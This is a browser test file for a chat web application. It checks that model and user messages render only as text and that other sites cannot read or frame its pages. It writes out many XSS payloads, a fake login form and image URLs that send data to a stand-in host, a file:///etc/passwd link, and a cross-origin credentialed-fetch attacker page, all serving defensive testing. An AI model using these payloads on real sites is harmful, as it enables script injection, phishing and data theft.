"""What a model says is text: it makes no element, no dialog, no request and no attribute. So for what a person says.

And what another site gets of us in a browser: nothing. The ids are those of the list of attacks.
"""

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Route, expect

from handlers.pages.reply_events import Screen
from handlers.replies.live import LiveReply
from memory.conversations.turns import ReplyId
from tests.browser.conftest import Visit
from tests.browser.visitor import Server, Visitor, open_context
from tests.support.shop import ENGLISH

ELSEWHERE = "https://elsewhere.example"
HOSTILE = {
    "elements": f"""\
<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)></svg> <svg><script>alert(4)</script></svg>
<iframe srcdoc="<script>alert(5)</script>"></iframe> <math><mi xlink:href="javascript:alert(6)">x</mi></math>

<style>body {{ display: none }}</style>

<form action="{ELSEWHERE}"><input name=password autofocus><button>Log in</button></form>

<base href="{ELSEWHERE}/"> <meta http-equiv="refresh" content="0;url={ELSEWHERE}"> <link rel=stylesheet href="{ELSEWHERE}/x.css">
<object data="{ELSEWHERE}"></object> <template><script>alert(7)</script></template> <hx-partial hx-target="#content">x</hx-partial>
<title>taken</title> <head><title>taken</title></head> <body onload=alert(8)> <!-- a comment --> <textarea> </ol></li></div>
""",
    "an open fence": "```html\n<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(2)>\n",
    "links": f"""\
[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](java&Tab;script:alert(1))
[e](vbscript:x) [f](data:text/html,<script>alert(1)</script>) [g](file:///etc/passwd) [h](blob:{ELSEWHERE}/1)
[i](/logout) [j](//elsewhere.example) <javascript:alert(1)> [k]( javascript:alert(1))

[l]: javascript:alert(1)
[l] [m][l]
""",
    "images": f"""\
![x]({ELSEWHERE}/?q=secret) ![x](/logout) ![r] ![](data:image/svg+xml,<svg/onload=alert(1)>) [![x]({ELSEWHERE}/i)](https://a.example)
<img src="{ELSEWHERE}/2"> <p style="background:url({ELSEWHERE}/3)">

[r]: {ELSEWHERE}/4
""",
    "attributes": """\
[x](https://a.example "<hx-x onmouseover=alert(1) ") [x](https://a.example 'onclick=alert(1) "x')

```"><img onmouseover=alert(1)> <hx-partial
fence
```

| a" onclick=alert(1) | <b onmouseover=alert(1)> |
| :-- | --: |
| <hx-y hx-get=/logout hx-trigger=load> | x |
""",
    "events": "data: x\n\nevent: done\ndata: done\n\nid: 9\nretry: 0\n\n: a comment\n\nevent: htmx:abort\n\nThe end.",
}
SEEN = {
    "elements": "<script>alert(1)</script> <img src=x onerror=alert(2)>",
    "an open fence": "<script>alert(1)</script>",
    "links": "<javascript:alert(1)>",
    "images": "!x",
    "attributes": "<b onmouseover=alert(1)>",
    "events": "data: x\n\nevent: done data: done",
}
SOUND = """() => {
    const allowed = new Set(["href", "rel", "target", "start", "class", "id", "tabindex", "role"]);
    const tags = new Set(["P", "BR", "HR", "STRONG", "EM", "DEL", "CODE", "PRE", "BLOCKQUOTE", "UL", "OL", "LI", "A", "H3", "H4",
        "H5", "H6", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "DIV", "SPAN"]);
    const copy = '<button class="copy" type="button" aria-labelledby="copy-code"><svg aria-hidden="true"><use href="#copy-icon"></use></svg></button>';
    const found = [];
    for (const element of document.querySelectorAll("#log .text *")) {
        if (element.closest(".code > button")?.outerHTML === copy) continue; // the page's own
        const claim = element.matches("span.claim"), inside = element.matches("span.claim ins, span.claim small"); // the checks' own
        if (!tags.has(element.tagName) && !inside) found.push(element.tagName);
        for (const {name, value} of element.attributes)
            if (!allowed.has(name) && !(claim && ["data-verdict", "title"].includes(name))) found.push(`${element.tagName} ${name}=${value}`);
        if (element.href && !/^(https?|mailto|tel):/.test(element.getAttribute("href"))) found.push(element.outerHTML);
    }
    return found;
}"""


def assert_sound(visitor: Visitor) -> None:
    """The page holds two messages and nothing that their text could have made."""
    assert visitor.page.evaluate(SOUND) == []
    assert visitor.page.locator("#message-1 .text").evaluate("(text) => text.childElementCount") == 0
    assert visitor.page.title() == "Quintal Caburé"
    expect(visitor.page.locator("#log > *")).to_have_count(2)
    expect(visitor.box).to_have_value("")


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_answer_is_only_text(visit: Visit, kind: str) -> None:
    ana = visit()
    text = f"echo\n\n{HOSTILE[kind]}"

    ana.ask_and_wait(text)

    assert ana.kept() == [("user", text.rstrip("\n")), ("assistant", text.rstrip("\n"))]
    shown = ana.page.locator("#m2-body").inner_text()
    assert SEEN[kind] in shown
    assert_sound(ana)
    streamed = ana.reply_html(2)
    ana.page.reload()
    assert_sound(ana)
    assert ana.reply_html(2) == streamed


def test_a_hostile_answer_streamed_in_pieces_stays_text(visit: Visit) -> None:
    """The upstream sends it in small pieces at a readable pace, so that every frame ends somewhere in its middle."""
    ana = visit()

    ana.ask(f"drip\n\n{HOSTILE['elements']}")

    while ana.page.locator("#message-2[aria-busy]").count() or not ana.page.locator("#message-2").count():
        assert ana.page.evaluate(SOUND) == []
    ana.wait_for_end()
    assert ana.page.evaluate(SOUND) == []


WATCH = f"""() => {{
    const sound = {SOUND};
    window.found = [], window.looked = 0;
    const look = () => {{ window.looked += 1; window.found.push(...sound()); }};
    new MutationObserver(look).observe(document.getElementById("log"), {{childList: true, subtree: true, attributes: true, characterData: true}});
}}"""


def frames_of(text: str, reply_id: ReplyId) -> bytes:
    """Return the stream of a reply that comes character by character, a frame for each, with the product's own frames."""
    reply, version, stream = LiveReply(reply_id), -1, b""
    screen = Screen(reply, ENGLISH)
    for length in range(1, len(text) + 1):
        reply.show(text[:length])
        version, data = screen.since(version, is_late=True)
        stream += data
    return stream + b"event: done\ndata: done\n\n"


def test_a_hostile_answer_cut_at_any_character_stays_text_A41(visit: Visit) -> None:
    """Each frame as the page shows it is looked through: no cut makes an element that the whole does not make."""
    ana, looked = visit(), 0
    texts = [f"{text}\n\nThe very end." for text in HOSTILE.values()]

    def stream(route: Route) -> None:
        reply_id = ReplyId.read(route.request.url.rpartition("/")[2])
        assert reply_id is not None
        body = frames_of(texts[reply_id.number // 2 - 1], reply_id)
        route.fulfill(body=body, headers={"Content-Type": "text/event-stream; charset=utf-8"})

    ana.page.route("**/replies/*", stream)
    for number, kind in enumerate(HOSTILE, 1):
        ana.page.evaluate(WATCH)
        ana.ask(f"ok {kind}")
        expect(ana.page.locator(f"#m{2 * number}-body")).to_contain_text("The very end.")

        assert ana.page.evaluate("window.found") == [], kind
        looked += ana.page.evaluate("window.looked")
        assert SEEN[kind] in ana.page.locator(f"#m{2 * number}-body").inner_text()
        ana.page.reload()
    assert looked > sum(map(len, texts)) / 2, "nearly every character was a change to the page"
    assert ana.page.title() == "Quintal Caburé"


STRANGE = [
    "\u202eevil \u2066\u2067\u2068 \u202d\u202b no end",
    "pass" + "\u200b\u200c\u200d\u2060\ufeff" * 60 + "word",
    "a" + "\u0301\u0489\u20dd" * 120,
    "\U0001f468\u200d" * 150,
    "\u05d0\u05d1\u05d2 123 \u0627\u0644\u0639 (abc)",
    "\ufdfd" * 30,
    "W" * 300,
]
ANSI = "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m \x7f \x08\x08"
LAYOUT = """() => {
    const page = document.scrollingElement, width = page.clientWidth, troubles = [];
    if (page.scrollWidth > width) troubles.push(`the page is ${page.scrollWidth} wide, of ${width}`);
    for (const block of document.querySelectorAll("#log .text, .cards > li, h2.title")) {
        const {left, right} = block.getBoundingClientRect(), isClipped = getComputedStyle(block).overflowX === "clip";
        if (left < 0 || right > width + 1) troubles.push(`out of the page: ${block.textContent.slice(0, 20)}`);
        if (block.scrollWidth > block.clientWidth + 1 && !isClipped) troubles.push(`spilled: ${block.textContent.slice(0, 20)}`);
    }
    for (const words of document.querySelectorAll("#log .text p")) {
        if (words.textContent.startsWith("W") && words.scrollWidth > words.clientWidth) troubles.push("words that do not wrap");
    }
    for (const who of document.querySelectorAll("#log .who")) {
        const range = document.createRange(), time = who.querySelector("time").getBoundingClientRect();
        range.selectNode(who.firstChild);
        if (range.getBoundingClientRect().left >= time.left) troubles.push(`turned round: ${who.textContent}`);
    }
    if (/[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f]/.test(document.body.innerText)) troubles.push("a control");
    return troubles;
}"""


def test_strange_characters_stay_in_their_place_A15_A53(visit: Visit) -> None:
    """Directions without an end, marks on marks, nothing at all, words without an end, a terminal's orders."""
    ana = visit(viewport={"width": 360, "height": 640})

    for text in ("\n\n".join(STRANGE), ANSI):
        ana.ask_and_wait(f"echo {text}")
        assert ana.page.evaluate(LAYOUT) == []
    ana.page.reload()

    assert ana.page.evaluate(LAYOUT) == []
    assert ana.page.locator("#m4-body").inner_text() == "echo �[31mred�[0m �]0;title� �31m � ��"
    assert ana.page.locator("#message-1 .text").evaluate("(text) => getComputedStyle(text).unicodeBidi") != "normal"
    expect(ana.send).to_be_in_viewport()
    for title in ("\u202e" + "evil " * 9, STRANGE[2], STRANGE[3]):
        rename = f"{ana.server.url}/conversations/current/rename"
        ana.context.request.post(rename, form={"title": title}, headers={"Origin": ana.server.url})
        for path in ("/conversations", "/conversations?q=evil", "/conversations/current"):
            ana.page.goto(ana.server.url + path)
            assert ana.page.evaluate(LAYOUT) == [], path


STRANGERS = """() => {
    const found = [];
    for (const element of document.querySelectorAll("*")) {
        if (element.matches("img:not([src^='/assets/']), iframe, object, embed, base")) found.push(element.outerHTML);
        for (const {name} of element.attributes) if (/^on|^style$|[^a-z0-9:-]/i.test(name)) found.push(`${element.tagName} ${name}`);
        if (element.hasAttribute("autofocus") && !element.matches("#content, #row > button")) found.push(element.outerHTML);
    }
    return found;
}"""


def test_no_attribute_holds_more_than_its_text_A55(visit: Visit) -> None:
    """What was said also stands in fields, titles and buttons' names; and what is copied is what was said."""
    ana = visit(permissions=["clipboard-read", "clipboard-write"])
    said = """"'><img src=x onerror=alert(1)> ' autofocus onfocus='alert(2)"""
    ana.ask_and_wait(f"echo {said}")

    ana.button("Copy answer").click()
    expect(ana.page.locator(".tools .copy use")).to_have_attribute("href", "#done-icon")
    assert ana.page.evaluate("navigator.clipboard.readText()") == f"echo {said}"
    ana.page.locator("#message-1 .edit").click()
    expect(ana.page.locator("#edit-1")).to_have_value(f"echo {said}")

    ana.context.request.post(
        f"{ana.server.url}/conversations/current/rename", form={"title": said}, headers={"Origin": ana.server.url}
    )
    for path in ("/", "/conversations", "/conversations/current", "/summary", "/prompt"):
        ana.page.goto(ana.server.url + path)
        assert ana.page.evaluate(STRANGERS) == [], path
    ana.page.goto(f"{ana.server.url}/conversations")
    ana.page.get_by_role("searchbox").fill(said)
    ana.page.get_by_role("searchbox").press("Enter")
    expect(ana.page.locator("input[name=q]")).to_have_value(said)
    assert ana.page.evaluate(STRANGERS) == []


# Another site


@contextmanager
def elsewhere(html: str) -> Iterator[int]:
    """Serve a page at all addresses of a port of this machine."""

    class Answering(BaseHTTPRequestHandler):
        timeout = 5  # seconds that a connection may be idle: browsers open some that they do not use

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, format: str, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answering) as listening:
        thread = threading.Thread(target=listening.serve_forever)
        thread.start()
        try:
            yield listening.server_address[1]
        finally:
            listening.shutdown()
            thread.join()


ATTACKER = """<!doctype html><title>elsewhere</title><body><script>
const paths = %s, found = {};
const load = (tag, url) => new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve("refused");
    element.src = url;
    setTimeout(resolve, 12000, "waits"); // a frame whose answer is a file never loads
    document.body.append(element);
});
const ask = (url, mode) => fetch(url, {mode, credentials: "include"}).then((answer) => `got ${answer.type}`, () => "refused");
(async () => {
    await Promise.all(paths.map(async (url) => {
        const ways = [load("script", url), load("img", url), ask(url, "no-cors"), ask(url, "cors"), load("iframe", url)];
        found[url] = (await Promise.all(ways)).slice(0, 4);
    }));
    document.title = JSON.stringify(found);
})();
</script>"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["another port of ours", "another site"])
def test_another_site_can_neither_read_nor_frame_a_page_A61_A62(
    visit: Visit, chromium: Browser, server: Server, host: str
) -> None:
    """As script, image, fetch and frame: pages, fragments, streams, exports and errors of who is logged in here."""
    ana = visit()
    ana.ask_and_wait("ok one")
    reply_id = ReplyId(2, ana.records()[0].time)
    paths = ["/", "/login", "/history?before=2", f"/replies/{reply_id}", "/conversations/current/export/json", "/prompt",
             "/nothing", "/messages", "/signup", "/robots.txt"]  # fmt: skip
    urls = [server.url + path for path in paths]
    statuses = set[int]()
    with elsewhere(ATTACKER % json.dumps(urls)) as port, open_context(chromium) as context:
        context.add_cookies(ana.context.cookies())  # type: ignore[arg-type]
        page = context.new_page()
        page.on("response", lambda answer: statuses.add(answer.status) if answer.url in urls else None)
        page.goto(f"http://{host}:{port}/")
        expect(page).to_have_title(re.compile("^{"))

        assert json.loads(page.title()) == dict.fromkeys(urls, ["refused"] * 4)
        assert [frame.url for frame in page.frames[1:]] == ["chrome-error://chromewebdata/"] * len(urls)
    assert statuses <= {403}


def test_a_link_of_an_answer_opens_without_telling_where_from(visit: Visit) -> None:
    ana = visit()

    ana.ask_and_wait("echo [the shop](https://shop.example/returns)")

    link = ana.page.get_by_role("link", name="the shop", exact=True)
    expect(link).to_have_attribute("href", "https://shop.example/returns")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow ugc")


def test_a_script_that_got_into_the_page_would_not_run(visit: Visit) -> None:
    """The Content-Security-Policy holds, should everything before it fail."""
    ana = visit()
    ana.allowed += ["Content Security Policy", "status of 404"]

    ana.page.locator("#log").evaluate(
        """(log) => {
            for (const html of ["<script>window.ran = 1</script>", "<script src='/assets/x/chat.js'></script>"]) {
                log.append(document.createRange().createContextualFragment(html));
            }
            log.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = 2'>");
        }"""
    )
    ana.page.wait_for_timeout(200)

    assert ana.page.evaluate("window.ran") is None
